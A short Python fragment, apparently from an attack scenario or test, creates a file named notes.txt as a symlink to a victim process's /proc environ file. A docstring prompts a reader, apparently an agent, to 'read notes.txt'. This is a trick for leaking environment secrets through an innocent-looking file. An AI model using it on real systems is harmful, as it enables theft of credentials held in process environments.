"""Leaves a link through /proc that means another place for each reader.

Then: read notes.txt
"""

os.symlink(f"/proc/{at.victim}/environ", "notes.txt")
